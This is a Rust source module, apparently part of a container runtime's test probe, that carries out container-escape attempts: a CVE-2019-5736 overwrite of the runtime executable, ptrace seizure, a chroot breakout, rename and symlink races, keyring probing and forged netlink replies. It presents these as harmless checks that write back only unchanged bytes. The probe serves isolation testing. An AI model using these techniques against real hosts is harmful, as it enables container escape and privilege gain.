//! What a hostile payload does: the probe's verb `attack`.
//!
//! Runs in: the container, as part of the probe. Every attack prints one line for each thing it
//! got hold of and nothing when it got nothing. Nothing is ever changed on the host: where an
//! attack succeeds in opening something for writing, it writes back what it has read.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{FileExt as _, MetadataExt as _, OpenOptionsExt as _};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::errno::Errno;

const EMPTY_PATH: libc::c_uint = 0x1000;

/// Text to print, or the errno of the call that failed.
type Answer = Result<String, Errno>;

/// `attack NAME ARGS`.
pub(crate) fn run(args: &[&str]) -> Answer {
    match args {
        ["watch", seconds] => watch(seconds, &look_at_descriptors),
        ["seen", seconds] => watch(seconds, &look_at_all),
        ["caps", seconds] => watch(seconds, &look_at_capabilities),
        ["ptrace", seconds] => watch(seconds, &look_by_ptrace),
        ["exe", seconds] => watch(seconds, &overwrite_exe),
        ["fds-of", pid] => Ok(lines(look_at_descriptors(Path::new("/proc").join(pid).as_path()))),
        ["exchange", seconds, one, two] => exchange(seconds, one, two),
        ["swap-link", seconds, path, to] => swap_link(seconds, path, to),
        ["chroot"] => leave_by_chroot(),
        ["fchmod", path] => change_mode(path),
        ["truncate", path] => nix::unistd::truncate(*path, 0).map(|()| "ok".to_owned()),
        ["keys", description] => find_key(description),
        ["add-key", description] => add_key(description).map(|id| format!("added {id}")),
        ["with-key", description, program @ ..] => with_key(description, program),
        ["abstract"] => abstract_sockets(),
        ["forge-netlink", port] => forge_netlink(port),
        _ => Err(Errno::EINVAL),
    }
}

fn lines(found: Vec<String>) -> String {
    found.into_iter().map(|line| line + "\n").collect()
}

/// Looks at every other process until the time is over or the file /tmp/stop exists.
fn watch(seconds: &str, look: &dyn Fn(&Path) -> Vec<String>) -> Answer {
    let end = deadline(seconds);
    let own = std::process::id().to_string();
    let mut found = BTreeSet::new();
    println!("ready");
    while Instant::now() < end && !Path::new("/tmp/stop").exists() {
        for entry in fs::read_dir("/proc").map_err(errno)?.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.bytes().all(|b| b.is_ascii_digit()) && name != own && name != "1" {
                found.extend(look(&entry.path()));
            }
        }
    }
    Ok(lines(found.into_iter().collect()) + "end\n")
}

fn deadline(seconds: &str) -> Instant {
    Instant::now() + Duration::from_secs(seconds.parse().unwrap_or(1))
}

/// Directories outside of our root: as root, working directory or open descriptor.
fn look_at_descriptors(process: &Path) -> Vec<String> {
    let mut found = Vec::new();
    for name in ["root", "cwd"] {
        if let Some(what) = outside(&process.join(name)) {
            found.push(format!("{name} {what}"));
        }
    }
    let fds = fs::read_dir(process.join("fd")).map(|dir| dir.flatten().collect::<Vec<_>>());
    for fd in fds.unwrap_or_default() {
        if let Some(what) = outside(&fd.path()) {
            found.push(format!("descriptor {what}"));
        }
    }
    found
}

/// The root that a directory leads to, when it is not ours, or a directory above which is none.
fn outside(link: &Path) -> Option<String> {
    let shown = fs::read_link(link).ok()?;
    let mut dir = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_PATH | libc::O_DIRECTORY)
        .open(link)
        .ok()?;
    let root = fs::metadata("/").ok()?;
    for _ in 0..64 {
        let at = PathBuf::from(format!("/proc/self/fd/{}/..", dir.as_raw_fd()));
        let above = OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_PATH | libc::O_DIRECTORY)
            .open(at)
            .ok()?;
        let (here, there) = (dir.metadata().ok()?, above.metadata().ok()?);
        if (here.dev(), here.ino()) == (root.dev(), root.ino()) {
            return None;
        }
        if (here.dev(), here.ino()) == (there.dev(), there.ino()) {
            return Some(format!("{} is outside", shown.display()));
        }
        dir = above;
    }
    None
}

/// Every process there is, by its name as long as it has one.
fn look_at_all(process: &Path) -> Vec<String> {
    let name = fs::read_to_string(process.join("comm")).unwrap_or_default();
    vec![format!("{} {}", process.display(), name.trim_end())]
}

/// Processes with more capabilities than this one.
fn look_at_capabilities(process: &Path) -> Vec<String> {
    let permitted = |path: &Path| -> Option<u64> {
        let status = fs::read_to_string(path.join("status")).ok()?;
        let set = status.lines().find_map(|l| l.strip_prefix("CapPrm:"))?.trim().to_owned();
        u64::from_str_radix(&set, 16).ok()
    };
    match (permitted(process), permitted(Path::new("/proc/self"))) {
        (Some(theirs), Some(ours)) if theirs & !ours != 0 => {
            vec![format!("capabilities {:x}", theirs & !ours)]
        }
        _ => Vec::new(),
    }
}

/// A process that can be traced while it is not yet the payload.
fn look_by_ptrace(process: &Path) -> Vec<String> {
    let Some(pid) = process.file_name().and_then(|n| n.to_str()?.parse::<i32>().ok()) else {
        return Vec::new();
    };
    // SAFETY: PTRACE_SEIZE takes numbers.
    let seized = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0;
    if !seized {
        return Vec::new();
    }
    let exe = fs::read_link(process.join("exe")).unwrap_or_default();
    let line = (exe != Path::new("/probe") && !exe.as_os_str().is_empty())
        .then(|| format!("traced {}", exe.display()));
    // A seized process must be stopped before it can be let go.
    // SAFETY: takes numbers.
    unsafe { libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0, 0) };
    // SAFETY: no status is asked for.
    unsafe { libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL) };
    // SAFETY: takes numbers.
    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
    line.into_iter().collect()
}

/// CVE-2019-5736: gets the executable of the runtime for writing, by every way there is.
fn overwrite_exe(process: &Path) -> Vec<String> {
    let exe = process.join("exe");
    let Ok(link) = fs::read_link(&exe) else { return Vec::new() };
    if link == Path::new("/probe") || link == Path::new("/bin/busybox") {
        return Vec::new();
    }
    let Ok(file) = File::open(&exe) else { return Vec::new() };
    // The descriptor keeps the file when the process has gone, and with it ETXTBSY.
    let path = PathBuf::from(format!("/proc/self/fd/{}", file.as_raw_fd()));
    let mut found = vec![format!("seen {}", link.display())];
    fs::write("/tmp/seen", "").ok(); // so that the victim need not go on
    let end = Instant::now() + Duration::from_millis(300);
    while Instant::now() < end {
        for loosen in [|_: &File| (), clear_read_only, remount, clear_on_a_clone] {
            loosen(&file);
            if write_back(&path).is_ok() {
                found.push(format!("WRITTEN {}", link.display()));
                return found;
            }
        }
        if !process.exists() {
            break;
        }
    }
    // Once more, when nobody executes it any longer.
    std::thread::sleep(Duration::from_millis(20));
    for loosen in [|_: &File| (), clear_read_only, remount, clear_on_a_clone] {
        loosen(&file);
        if write_back(&path).is_ok() {
            found.push(format!("WRITTEN {}", link.display()));
        }
    }
    found
}

/// Writes the first byte of the file over itself.
fn write_back(path: &Path) -> io::Result<()> {
    let mut byte = [0];
    File::open(path)?.read_exact_at(&mut byte, 0)?;
    OpenOptions::new().write(true).open(path)?.write_all_at(&byte, 0)
}

fn set_attributes(fd: i32, path: &std::ffi::CStr) {
    // SAFETY: mount_attr is nothing but integers.
    let mut change: libc::mount_attr = unsafe { std::mem::zeroed() };
    change.attr_clr = libc::MOUNT_ATTR_RDONLY;
    // SAFETY: struct and string outlive the call. A refusal is what the attack is about.
    unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            fd,
            path.as_ptr(),
            EMPTY_PATH,
            &raw const change,
            size_of::<libc::mount_attr>(),
        );
    }
}

/// `mount_setattr(2)` on the mount that the executable is seen through.
fn clear_read_only(file: &File) {
    set_attributes(file.as_raw_fd(), c"");
}

/// `mount(2)` with `MS_REMOUNT | MS_BIND` and without `MS_RDONLY`.
fn remount(file: &File) {
    let none = None::<&str>;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let flags = nix::mount::MsFlags::MS_REMOUNT | nix::mount::MsFlags::MS_BIND;
    nix::mount::mount(none, path.as_str(), none, flags, none).ok();
}

/// A copy of the mount, made writable, over a file of ours: then that file is written to.
fn clear_on_a_clone(file: &File) {
    // SAFETY: the string is a literal.
    let tree = unsafe {
        libc::syscall(libc::SYS_open_tree, file.as_raw_fd(), c"".as_ptr(), EMPTY_PATH | 1)
    };
    let Ok(tree) = i32::try_from(tree) else { return };
    if tree < 0 {
        return;
    }
    set_attributes(tree, c"");
    if write_back(Path::new(&format!("/proc/self/fd/{tree}"))).is_ok() {
        println!("WRITTEN through a copy of the mount");
    }
    // SAFETY: open_tree has just made it.
    unsafe { libc::close(tree) };
}

/// Exchanges two names as fast as possible.
fn exchange(seconds: &str, one: &str, two: &str) -> Answer {
    let (one, two) = (CString::new(one), CString::new(two));
    let (Ok(one), Ok(two)) = (one, two) else { return Err(Errno::EINVAL) };
    let end = deadline(seconds);
    println!("ready");
    while Instant::now() < end && !Path::new("/tmp/stop").exists() {
        for _ in 0..256 {
            // SAFETY: both strings outlive the call; 2 is RENAME_EXCHANGE.
            unsafe {
                libc::syscall(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    one.as_ptr(),
                    libc::AT_FDCWD,
                    two.as_ptr(),
                    2,
                );
            }
        }
    }
    Ok(String::new())
}

/// A name is a directory, a link and nothing, in turn.
fn swap_link(seconds: &str, path: &str, to: &str) -> Answer {
    let end = deadline(seconds);
    println!("ready");
    while Instant::now() < end && !Path::new("/tmp/stop").exists() {
        for _ in 0..64 {
            fs::remove_dir_all(path).or_else(|_| fs::remove_file(path)).ok();
            std::os::unix::fs::symlink(to, path).ok();
            fs::remove_file(path).ok();
            fs::create_dir(path).ok();
        }
    }
    Ok(String::new())
}

/// chroot(2) below an open directory and up again: reaches whatever is above our root.
fn leave_by_chroot() -> Answer {
    fs::create_dir_all("/tmp/below").map_err(errno)?;
    let before = fs::metadata("/").map_err(errno)?;
    let top = File::open("/").map_err(errno)?;
    nix::unistd::chroot("/tmp/below")?;
    nix::unistd::fchdir(&top)?;
    for _ in 0..64 {
        nix::unistd::chdir("..")?;
    }
    nix::unistd::chroot(".")?;
    let after = fs::metadata("/").map_err(errno)?;
    let same = (before.dev(), before.ino()) == (after.dev(), after.ino());
    Ok(if same { "inside" } else { "OUTSIDE" }.to_owned())
}

fn change_mode(path: &str) -> Answer {
    use std::os::unix::fs::PermissionsExt as _;
    let mode = fs::metadata(path).map_err(errno)?.permissions().mode();
    fs::set_permissions(path, fs::Permissions::from_mode(mode))
        .map(|()| "ok".to_owned())
        .map_err(errno)
}

/// `request_key(2)` of a "user" key: searches the thread, process and session keyrings.
fn find_key(description: &str) -> Answer {
    let description = CString::new(description).map_err(|_nul| Errno::EINVAL)?;
    // SAFETY: the strings are terminated and outlive the call; without callout no program is run.
    let id = unsafe {
        libc::syscall(
            libc::SYS_request_key,
            c"user".as_ptr(),
            description.as_ptr(),
            std::ptr::null::<libc::c_char>(),
            0,
        )
    };
    Errno::result(id).map(|_| "FOUND".to_owned())
}

/// Puts a key into the session keyring; its serial number.
fn add_key(description: &str) -> Result<i64, Errno> {
    let description = CString::new(description).map_err(|_nul| Errno::EINVAL)?;
    // SAFETY: strings and payload outlive the call; -3 is KEY_SPEC_SESSION_KEYRING.
    Errno::result(unsafe {
        libc::syscall(
            libc::SYS_add_key,
            c"user".as_ptr(),
            description.as_ptr(),
            c"secret".as_ptr(),
            6,
            -3,
        )
    })
}

/// Runs a program with a session keyring in which there is this key.
fn with_key(description: &str, program: &[&str]) -> Answer {
    // SAFETY: 1 is KEYCTL_JOIN_SESSION_KEYRING, without a name.
    Errno::result(unsafe { libc::syscall(libc::SYS_keyctl, 1, std::ptr::null::<libc::c_char>()) })?;
    let id = add_key(description)?;
    // SAFETY: 5 is KEYCTL_SETPERM: everybody may do everything, so that only the search decides.
    Errno::result(unsafe { libc::syscall(libc::SYS_keyctl, 5, id, 0x3f3f_3f3f) })?;
    let program: Vec<CString> =
        program.iter().filter_map(|word| CString::new(*word).ok()).collect();
    let Some(first) = program.first() else { return Err(Errno::EINVAL) };
    nix::unistd::execv(first, &program).map(|never| match never {})
}

fn abstract_sockets() -> Answer {
    let text = fs::read_to_string("/proc/net/unix").map_err(errno)?;
    Ok(text.lines().filter(|l| l.contains(" @")).map(|l| format!("{l}\n")).collect())
}

/// Answers "no such device" to the first requests of a netlink socket, before they are made.
fn forge_netlink(port: &str) -> Answer {
    use nix::sys::socket::{
        AddressFamily, MsgFlags, NetlinkAddr, SockFlag, SockProtocol, SockType, sendto, socket,
    };
    let (family, protocol) = (AddressFamily::Netlink, SockProtocol::NetlinkRoute);
    let socket = socket(family, SockType::Raw, SockFlag::SOCK_CLOEXEC, protocol)?;
    let port = port.parse().map_err(|_not_a_number| Errno::EINVAL)?;
    let requests = 1..=64_u32;
    for number in requests.clone() {
        // nlmsghdr: length, NLMSG_ERROR, flags, number, port; nlmsgerr: errno, the request's header.
        let mut message = 36_u32.to_ne_bytes().to_vec();
        message.extend(2_u16.to_ne_bytes());
        message.extend([0; 2]);
        message.extend(number.to_ne_bytes());
        message.extend([0; 4]);
        message.extend((-libc::ENODEV).to_ne_bytes());
        message.resize(36, 0);
        let to = NetlinkAddr::new(port, 0);
        sendto(socket.as_raw_fd(), &message, &to, MsgFlags::empty())?;
    }
    Ok(format!("sent {}", requests.count()))
}

#[expect(clippy::needless_pass_by_value, reason = "used as map_err(errno)")]
fn errno(err: io::Error) -> Errno {
    Errno::from_raw(err.raw_os_error().unwrap_or(0))
}
